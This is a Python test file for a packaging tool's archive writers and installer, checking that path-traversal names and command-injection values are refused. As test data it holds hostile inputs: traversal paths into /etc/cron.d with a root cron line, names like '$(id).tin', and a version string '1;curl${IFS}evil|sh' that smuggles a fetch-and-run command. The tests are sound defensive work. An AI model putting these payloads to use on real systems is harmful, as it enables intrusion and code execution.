"""Names of files through every writer and reader of archives: one that leads out of its folder is refused, and
what is written stays inside when the system's own tools unpack it."""

from __future__ import annotations

import io
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import BinaryIO, cast

import pytest

from tinsmith import __version__, airgap
from tinsmith.airgap import deb, install, oci, packages, rpm, tar
from tinsmith.airgap.packages import Package
from tinsmith.cross import wheel
from tinsmith.errors import InputError, SignatureError
from tinsmith.formats import minisign
from tinsmith.system.progress import PlainDisplay

SLIPS = [
    "../evil",
    "../../../../evil",
    "a/../../evil",
    "/evil",
    "a\\..\\..\\evil",
    "a\nb",
    "a\0b",
    "C:evil",
    "a//b",
]
INSIDE = {
    "usr/bin/tool": b"#!/bin/sh\n",
    "usr/share/a/b.txt": b"text",
    "usr/share/a/..c/ü d": b"odd, but inside",
}


def package(files: dict[str, bytes]) -> Package:
    return Package("tool", "1", "a tool", "It does.", None, "MIT", b"terms", dict(files))


def as_deb(files: dict[str, bytes], out: BinaryIO) -> None:
    made = package(files)
    deb.write(made, deb._control(made, "amd64", deb.NOBODY), out)


def as_rpm(files: dict[str, bytes], out: BinaryIO) -> None:
    rpm.write(package(files), "x86_64", out, None)


def as_tar(files: dict[str, bytes], out: BinaryIO) -> None:
    tar.write_tree(files, out)


def as_wheel(files: dict[str, bytes], out: BinaryIO) -> None:
    path = Path(cast(str, out.name))
    wheel.archive(path, files, "tool-1.dist-info")


WRITERS = {"deb": as_deb, "rpm": as_rpm, "tar": as_tar, "whl": as_wheel}


def unpacked(command: str, *programs: str) -> Callable[[Path, Path], None]:
    def unpack(archive: Path, into: Path) -> None:
        for program in programs:
            if shutil.which(program) is None:
                pytest.skip(f"{program} is not installed")
        done = subprocess.run(["sh", "-ec", command, "sh", archive], cwd=into, capture_output=True, text=True)
        assert done.returncode == 0, done.stderr

    return unpack


# By the system's tools, told to trust names where they can be.
READERS = {
    "deb": unpacked('dpkg-deb --extract "$1" .', "dpkg-deb"),
    "rpm": unpacked('rpm2cpio "$1" | cpio -id --quiet', "rpm2cpio", "cpio"),
    "tar": unpacked('tar -xPf "$1"', "tar"),
    "whl": unpacked('unzip -q -: "$1"', "unzip"),
}


@pytest.mark.parametrize("form", WRITERS)
@pytest.mark.parametrize("name", [*SLIPS, "usr/bin/tool/below"])
def test_a_writer_refuses_a_name_that_leads_out(form: str, name: str, tmp_path: Path) -> None:
    with (tmp_path / f"made.{form}").open("wb") as file, pytest.raises(InputError, match="name") as raised:
        WRITERS[form]({**INSIDE, name: b"evil"}, file)
    assert str(raised.value).isprintable()


@pytest.mark.parametrize("form", WRITERS)
def test_the_systems_tools_unpack_what_was_written_inside(form: str, tmp_path: Path) -> None:
    archive = tmp_path / f"made.{form}"
    with archive.open("wb") as file:
        WRITERS[form](INSIDE, file)
    into = tmp_path / "one/two/into"
    into.mkdir(parents=True)
    READERS[form](archive, into)
    for name, data in INSIDE.items():
        assert (into / name).read_bytes() == data
    outside = {path for path in tmp_path.rglob("*") if path.is_file() and not path.is_relative_to(into)}
    assert outside == {archive}


def test_a_part_that_is_too_long_for_tar_is_an_error_of_one_line() -> None:
    with pytest.raises(InputError, match="shorten it"):
        tar.write_tree({f"{'a' * 120}/{'b' * 120}": b""}, io.BytesIO())


@pytest.mark.parametrize("form", ["tar", "zip"])
def test_a_folder_with_such_a_name_is_not_archived(form: str, tmp_path: Path) -> None:
    (tmp_path / "pack").mkdir()
    (tmp_path / "pack" / "a\\..\\b").write_text("evil")
    write = tar.write if form == "tar" else tar.write_zip
    with pytest.raises(InputError, match="leads out"):
        write(tmp_path / "pack", "pack", io.BytesIO())


def zipped(path: Path, files: dict[str, bytes]) -> Path:
    """A wheel as nobody's tool should make it."""
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return path


def wheels(folder: Path, files: dict[str, bytes]) -> Path:
    """tinsmith's and click's, which has these files too."""
    folder.mkdir()
    for name, version, more in (("tinsmith", __version__, {}), ("click", "8.5.1", files)):
        needs = "Requires-Dist: click>=8.1\n" if name == "tinsmith" else ""
        text = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n{needs}"
        info = {f"{name}-{version}.dist-info/METADATA": text.encode(), f"{name}/__init__.py": b""}
        zipped(folder / f"{name}-{version}-py3-none-any.whl", {**info, **more})
    return folder


@pytest.mark.parametrize("form", ["deb", "rpm"])
@pytest.mark.parametrize("name", ["../../../../etc/cron.d/evil", "/etc/cron.d/evil"])
def test_packages_are_not_made_of_a_wheel_that_leads_out(
    form: str, name: str, tin: Path, tmp_path: Path
) -> None:
    runtime = wheels(tmp_path / "runtime", {name: b"* * * * * root id\n"})
    with pytest.raises(InputError, match="click-8.5.1-py3-none-any.whl: the name .* leads out"):
        airgap.pack(tin, "host", tmp_path / "site", "hi", None, PlainDisplay(), runtime, form=form)
    assert not (tmp_path / "site").exists()


@pytest.mark.parametrize("form", ["deb", "rpm"])
def test_packages_are_not_made_of_a_wheel_with_a_hostile_name(form: str, tin: Path, tmp_path: Path) -> None:
    """The name that a wheel states becomes a file's, of its licence."""
    runtime = wheels(tmp_path / "runtime", {})
    text = b"Metadata-Version: 2.1\nName: ../../../../../etc/evil\nVersion: 1\n"
    zipped(runtime / "evil-1-py3-none-any.whl", {"evil-1.dist-info/METADATA": text})
    with pytest.raises(InputError, match="leads out"):
        airgap.pack(tin, "host", tmp_path / "site", "hi", None, PlainDisplay(), runtime, form=form)


def test_one_wheel_does_not_replace_a_file_of_another(tmp_path: Path) -> None:
    """RPM packages put all wheels into one folder."""
    runtime = wheels(tmp_path / "runtime", {"tinsmith/__init__.py": b"evil"})
    files: dict[str, tar.Source] = {f"runtime/{one.name}": one for one in runtime.iterdir()}
    with pytest.raises(InputError, match="different file at usr/lib/tinsmith/tinsmith/__init__.py"):
        packages._python_files(files, "x86_64", rpm.LAYOUT)


@pytest.mark.parametrize("name", SLIPS)
def test_the_installer_unpacks_nothing_of_a_wheel_that_leads_out(name: str, tmp_path: Path) -> None:
    data = zipped(tmp_path / "a.whl", {"fine.py": b"", name: b"evil"}).read_bytes()
    if "\0" in name:  # which Python's reader of ZIP files cuts off, as its writer does
        return
    (tmp_path / "site").mkdir()
    with pytest.raises(install.Refused, match="leads out"):
        install.unpack(io.BytesIO(data), tmp_path / "site")
    assert not list((tmp_path / "site").iterdir())


@pytest.mark.parametrize("name", ["a;b.tin", "$(id).tin", "a b.tin", "a\nb.tin", "-o.tin", ".tin"])
@pytest.mark.parametrize("form", ["tar", "deb", "rpm", "oci"])
def test_a_models_name_is_no_part_of_a_command(name: str, form: str, tin: Path, tmp_path: Path) -> None:
    shutil.copy(tin, tmp_path / name)
    with pytest.raises(InputError, match="can't be in a pack"):
        airgap.pack(tmp_path / name, "host", tmp_path / "site", "hi", None, PlainDisplay(), form=form)


@pytest.mark.parametrize(
    "version",
    ["1;curl${IFS}evil|sh", "0", "01", "-1", "4294967296", "1.0", "", "$(id)", "١", "1\n", "7 version=8"],
)
def test_a_version_that_is_no_number_is_refused(version: str) -> None:
    with pytest.raises(SignatureError, match="no number from 1"):
        packages.version_of(f"tinsmith version={version}")


def test_a_version_that_a_signature_states_is_taken(
    tin: Path, tmp_path: Path, maker: minisign.SecretKey
) -> None:
    assert packages.version_of("tinsmith version=4294967295 not-after=2027-01-31 x") == "4294967295"
    assert packages.version_of("file:a.tin") == packages.version_of("made version=x") == "0"
    copy = tmp_path / "a.tin"
    shutil.copy(tin, copy)
    text = maker.sign(airgap.Tin(copy).entry("manifest.json"), "tinsmith version=1;curl${IFS}evil|sh")
    Path(f"{copy}.minisig").write_text(text)
    runtime = wheels(tmp_path / "runtime", {})
    with pytest.raises(SignatureError, match="states version=1;curl"):
        airgap.pack(copy, "host", tmp_path / "site", "hi", maker, PlainDisplay(), runtime, form="deb")


def test_umoci_unpacks_the_image_inside(tin: Path, runtime: Path, tmp_path: Path) -> None:
    if shutil.which("umoci") is None:
        pytest.skip("umoci is not installed")
    held: dict[str, tar.Source] = {"runtime/bin/tin": runtime / "bin/tin", "prompt.txt": b"hi", tin.name: tin}
    oci.image(tin, held, "x86_64", tmp_path, "7")
    (tmp_path / "layout").mkdir()
    subprocess.run(["tar", "-xf", "image.tar", "-C", "layout"], cwd=tmp_path, check=True)
    command = ["umoci", "unpack", "--rootless", "--image", "layout:7", "bundle"]
    subprocess.run(command, cwd=tmp_path, check=True, capture_output=True)
    root = tmp_path / "bundle/rootfs"
    there = {path.relative_to(root).as_posix() for path in root.rglob("*") if path.is_file()}
    assert there == {"usr/bin/tin", "model/prompt.txt", f"model/{tin.name}"}
    with pytest.raises(InputError, match="leads out"):
        oci.image(tin, {**held, "../evil": b""}, "x86_64", tmp_path, "7")
